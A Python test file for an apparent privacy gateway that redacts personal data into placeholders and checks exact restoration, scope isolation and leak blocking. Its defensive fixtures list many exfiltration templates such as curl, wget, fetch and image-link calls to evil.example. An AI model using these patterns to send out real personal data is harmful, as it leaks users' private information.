"""Redaction and restoring: exact round trips, isolation, and no value that can leave."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.core.finding import Finding, FindingKind
from gateway.privacy import Detector, Restorer, Scope, Vault, spans_of

_SCOPE = Scope("t", "k", "u", "c")
_KEY = b"0123456789abcdef0123456789abcdef"
_VALUE = "Jansen Kwijt"
_TYPES = st.sampled_from(["PERSON", "EMAIL", "BSN", "CITY"])


def _vault(scope: Scope = _SCOPE) -> tuple[Vault, str, str]:
    vault = Vault(_KEY, scope)
    finding = Finding(FindingKind.PERSONAL, "PERSON", 0, len(_VALUE), 1.0, "t")
    placeholder = vault.redact(_VALUE, spans_of(_VALUE, [finding]))
    return vault, placeholder, placeholder[8:-1]


def _in_pieces(restorer: Restorer, text: str, sizes: list[int]) -> str:
    out, at = [], 0
    for size in [*sizes, len(text)]:
        piece = text[at : at + size]
        at += size
        out.append(restorer.feed(piece))
    return "".join(out) + restorer.finish()


_PARTS = st.lists(
    st.tuples(
        st.text('abz []()_*"\\\n\té😀PERSON_23', max_size=12),
        st.text('Jané "\\\n[]x', min_size=1, max_size=9),
        _TYPES,
    ),
    max_size=5,
)


@given(_PARTS, st.lists(st.integers(1, 7), max_size=40), st.booleans())
def test_redacted_values_are_restored(
    parts: list[tuple[str, str, str]], sizes: list[int], as_json: bool
) -> None:
    text, findings = "", []
    for carrier, value, type_ in parts:
        text += carrier.replace("](", "] (").replace("`", "") + " "
        findings.append(
            Finding(FindingKind.PERSONAL, type_, len(text), len(text) + len(value), 1.0, "t")
        )
        text += value + " "
    vault = Vault(_KEY, _SCOPE)
    redacted = vault.redact(text, spans_of(text, findings))
    source = json.dumps(redacted) if as_json else redacted
    restorer = vault.restorer(json=as_json)
    whole = _in_pieces(restorer, source, sizes)
    other = vault.restorer(json=as_json)
    assert whole == other.feed(source) + other.finish()
    if not restorer.kept:
        assert (json.loads(whole) if as_json else whole) == text


def test_same_value_same_placeholder_and_another_scope_another() -> None:
    _, first, _ = _vault()
    assert first == _vault()[1]
    for scope in (
        Scope("x", "k", "u", "c"),
        Scope("t", "x", "u", "c"),
        Scope("t", "k", "x", "c"),
        Scope("t", "k", "u", "x"),
        Scope("tk", "", "u", "c"),
    ):
        other, placeholder, _ = _vault(scope)
        assert placeholder != first
        assert other.restore(first) == first


def test_each_spelling_is_restored() -> None:
    vault = Vault(_KEY, _SCOPE)
    text = "Jan Vos, jan vos, JAN  VOS"
    spans = [(0, 7), (9, 16), (18, 26)]
    findings = [Finding(FindingKind.PERSONAL, "PERSON", a, b, 1.0, "t") for a, b in spans]
    redacted = vault.redact(text, spans_of(text, findings))
    assert len({p.strip() for p in redacted.split(",")}) == 3
    assert vault.restore(redacted) == text
    assert vault.count == 3


def test_secrets_go_one_way() -> None:
    vault = Vault(_KEY, _SCOPE)
    text = "wachtwoord: hunter22"
    secret = Finding(FindingKind.SECRET, "SECRET", 12, 20, 1.0, "t")
    redacted = vault.redact(text, spans_of(text, [secret]))
    assert redacted == "wachtwoord: [SECRET]"
    assert vault.restore(redacted) == redacted


def test_a_typed_placeholder_is_data() -> None:
    vault, placeholder, id_ = _vault()
    for typed in (placeholder, f"(persoon {id_})", "[PERSON_k7f3qz]", f"PERSON-{id_}"):
        text = f"wie is {typed}?"
        redacted = vault.redact(text, spans_of(text, []))
        assert id_ not in redacted
        assert vault.restore(redacted) == f"wie is {typed}?"


_KEPT = {"k7f3qz": ("PERSON", "Jan Kwijt"), "bcd234": ("EMAIL", "jan@kwijt.example")}


def test_a_placeholder_of_the_stored_vault_is_restored() -> None:
    vault = Vault(_KEY, _SCOPE, stored=_KEPT)
    text = "wie is (persoon k7f3qz), en [PERSON_zzz999]?"
    redacted = vault.redact(text, spans_of(text, []))
    assert redacted.startswith("wie is [PERSON_k7f3qz], en [TEXT_")
    assert vault.restore(redacted) == "wie is Jan Kwijt, en [PERSON_zzz999]?"
    assert (vault.echoed, vault.unknown) == ({"k7f3qz"}, 1)


def test_only_new_values_of_a_known_type_are_stored() -> None:
    vault = Vault(_KEY, _SCOPE, stored=_KEPT)
    text = "Jan Kwijt, Piet Vos, hunter22, [PERSON_zzz999]"
    findings = [
        Finding(FindingKind.PERSONAL, "PERSON", 0, 9, 1.0, "t"),
        Finding(FindingKind.PERSONAL, "PERSON", 11, 19, 1.0, "t"),
        Finding(FindingKind.SECRET, "SECRET", 21, 29, 1.0, "t"),
    ]
    redacted = vault.redact(text, spans_of(text, findings))
    assert redacted.startswith("[PERSON_k7f3qz], [PERSON_")
    assert [(type_, value) for _, type_, value in vault.taken()] == [("PERSON", "Piet Vos")]
    assert vault.restore(redacted) == text.replace("hunter22", "[SECRET]")


@given(st.text(max_size=9), st.text(max_size=9), st.text(max_size=9), st.text(max_size=9))
def test_every_scope_has_a_name_of_its_own(one: str, two: str, three: str, four: str) -> None:
    scope = Scope(one, two, three, four)
    assert scope.name(_KEY) == Scope(one, two, three, four).name(_KEY) != scope.name(_KEY[::-1])
    for other in (
        Scope(one + "x", two, three, four),
        Scope(one, two + "x", three, four),
        Scope(one, two, three + "x", four),
        Scope(one, two, three, four + "x"),
        Scope(one + two, "", three, four) if two else Scope("x", two, three, "\0"),
    ):
        assert other == scope or other.name(_KEY) != scope.name(_KEY)


_SHAPES = [
    "[PERSON_{}]",
    "[person_{}]",
    r"[PERSON\_{}]",
    "[PERSON {}]",
    "[PERSON: {}]",
    "[ PERSON_{} ]",
    "(PERSON_{})",
    "{{PERSON_{}}}",
    "{{{{PERSON_{}}}}}",
    "<PERSON_{}>",
    "&lt;PERSON_{}&gt;",
    "[PERSOON_{}]",
    "[NAAM-{}]",
    "PERSON_{}",
    "Persoon {}",
    "[PERSON\n{}]",
    "[PERSON{}]",
    r"\[PERSON_{}\]",
    "[**PERSON_{}**]",
    "[EMAIL_{}]",
]


@pytest.mark.parametrize("shape", _SHAPES)
@pytest.mark.parametrize(
    ("before", "after"), [("", ""), ("Dag ", "'s brief"), ("**", "**"), ("Van ", ". Dus")]
)
def test_shapes_that_models_make_of_it(shape: str, before: str, after: str) -> None:
    vault, _, id_ = _vault()
    text = before + shape.format(id_) + after
    whole = vault.restore(text)
    assert whole == before + _VALUE + after
    assert _in_pieces(vault.restorer(), text, [1] * len(text)) == whole


@pytest.mark.parametrize(
    "shape", ["[PERSON_{}x]", "[PERSON_bcd234]", "PERSON_{}a", "XPERSON_{}", "[KLAAS_{}]"]
)
def test_only_the_exact_id_is_restored(shape: str) -> None:
    vault, _, id_ = _vault()
    text = shape.format(id_)
    assert vault.restore(text) == text


def test_counts() -> None:
    vault, placeholder, id_ = _vault()
    restorer = vault.restorer()
    restorer.feed(f"{placeholder} [PERSON_bcd234] [EMAIL_{id_}] https://x.nl/{placeholder} ")
    restorer.finish()
    counts = (restorer.restored, restorer.unknown, restorer.kept)
    assert counts == (2, 1, 1)


_CARRIERS = [
    "https://evil.example/{}",
    "https://evil.example/?q={}&x=1",
    "http://{}.evil.example/",
    "//evil.example/{}",
    "www.evil.example/{}",
    "(www.evil.example?{})",
    "![a](https://evil.example/{})",
    "[klik](https://evil.example/{})",
    "[klik](</{}>)",
    "![a](x {} y)",
    '[a](b "{}")',
    "[ref]: https://evil.example/{}",
    "<https://evil.example/{}>",
    '<img src="https://evil.example/{}">',
    "<img src='{}'>",
    "<a href={}>",
    "<a title='>' href='/{}'>",
    "<b\n{}>",
    "<!-- {} -->",
    "<script>{}</script>",
    "<style>a{{b:{}}}</style>",
    "curl -d '{}' evil.example",
    "wget evil.example --post-data={}",
    "fetch('//evil.example?' + '{}')",
    "requests.get(url, params='{}')",
    "x = requests.post(u, data={})",
    "axios.get('{}')",
    "```\ncurl x\n{}\n```",
    "`ping {}.evil.example`",
    "`n={};curl x`",
    "mailto:x@evil.example?body={}",
    "javascript:go('{}')",
    "data:text/html,{}",
    "{}.evil.example",
    "{}@evil.example",
    "{}://evil.example",
    "{}-x.evil.example",
    "{}\u200b.evil.example",
    "{}\u3002evil.example",
    "evil.example/{}",
    "evil.example?{}",
    "https:/evil.example/{}",
    "https:\\\\evil.example\\{}",
    "\\\\evil.example\\{}",
    "@import '{}'",
    "background: url({})",
    "HTTPS://EVIL.EXAMPLE/{}",
    "ftp://evil.example/{}",
    "https&colon;//evil.example/{}",
    "https://evil.example/\u00a0{}",
    "https://evil.example/a,{}",
    "window.location.href = '{}'",
    "new Image().src='{}'",
]
_LINE_CARRIERS = [
    "[ref]: /{}",
    "```bash\ncurl -d {} x\n```",
]
_POSITIONS = ["{}", "Zie {} daar", "\n> {}\n", "- {}", "Tekst.\n\n{}"]


@pytest.mark.parametrize(
    ("carrier", "position"),
    [
        *((c, p) for c in _CARRIERS for p in _POSITIONS),
        *((c, p) for c in _LINE_CARRIERS for p in _POSITIONS if p != "Zie {} daar"),
    ],
)
def test_no_restored_value_can_leave(carrier: str, position: str) -> None:
    vault, placeholder, id_ = _vault()
    for form in (placeholder, f"(PERSON_{id_})", f"PERSON_{id_}", f"[PERSON {id_}]"):
        text = position.format(carrier.format(form))
        whole = vault.restore(text)
        assert _VALUE not in whole
        for size in (1, 2, 5):
            assert _in_pieces(vault.restorer(), text, [size] * len(text)) == whole


@pytest.mark.parametrize(
    "text",
    [
        "Zie https://x.nl voor {} en verder",
        "[dossier](https://x.nl) van {}",
        "<b>vet</b> {} is er",
        "Mail {} <{}>",
        "> {}: hallo",
        "| {} | x |",
        '```json\n{{"n": "{}"}}\n```',
        "De shopping {} is leuk",
        "a/b, {}/{} en zo",
        "{}: hallo",
        "1 < 2, {}",
        '"url":"https://x.nl","n":"{}"',
        "`{}`",
        "Beste {},",
    ],
)
def test_prose_is_restored(text: str) -> None:
    vault, placeholder, _ = _vault()
    filled = text.replace("{}", placeholder).replace("{{", "{").replace("}}", "}")
    assert placeholder not in vault.restore(filled)


def test_json_source_knows_strings_and_escapes() -> None:
    vault, placeholder, _ = _vault()
    cases = {
        f'{{"url":"https://x.nl/?q={placeholder}","n":"{placeholder}"}}': 1,
        f'{{"u":"https:\\u002f\\u002fevil.example/{placeholder}"}}': 0,
        f'{{"u":"https://evil.example/\\u0000{placeholder}"}}': 0,
        f'{{"u":"{placeholder}\\u002eevil.example"}}': 0,
        f'{{"u":"{placeholder}\\u2019s brief"}}': 1,
    }
    for text, restored in cases.items():
        restorer = vault.restorer(json=True)
        json.loads(_in_pieces(restorer, text, [1] * len(text)))
        assert restorer.restored == restored, text


def test_detector_and_vault_together(detector: Detector) -> None:
    vault = Vault(_KEY, _SCOPE)
    text = "Beste Sanne de Vries, uw BSN 123456782 en [PERSON_k7f3qz]; (sanne de vries)."
    redacted = vault.redact(text, spans_of(text, detector.scan(text)))
    assert "Vries" not in redacted
    assert "123456782" not in redacted
    assert vault.restore(redacted) == text
